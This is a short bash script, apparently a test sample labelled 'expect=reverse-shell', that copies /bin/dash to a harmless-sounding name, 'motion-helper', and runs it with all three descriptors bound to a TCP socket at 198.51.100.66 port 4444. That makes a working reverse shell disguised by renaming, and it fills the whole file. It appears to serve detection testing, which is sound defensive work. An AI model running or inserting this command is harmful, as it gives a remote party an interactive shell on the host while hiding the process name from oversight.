#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=dash seconds=10
# A copy of dash under a harmless name, its three descriptors on a socket.
cd "$LAB" || exit 1
cp /bin/dash ./motion-helper
exec bash -c "exec ./motion-helper 0<>/dev/tcp/198.51.100.66/4444 1>&0 2>&0"
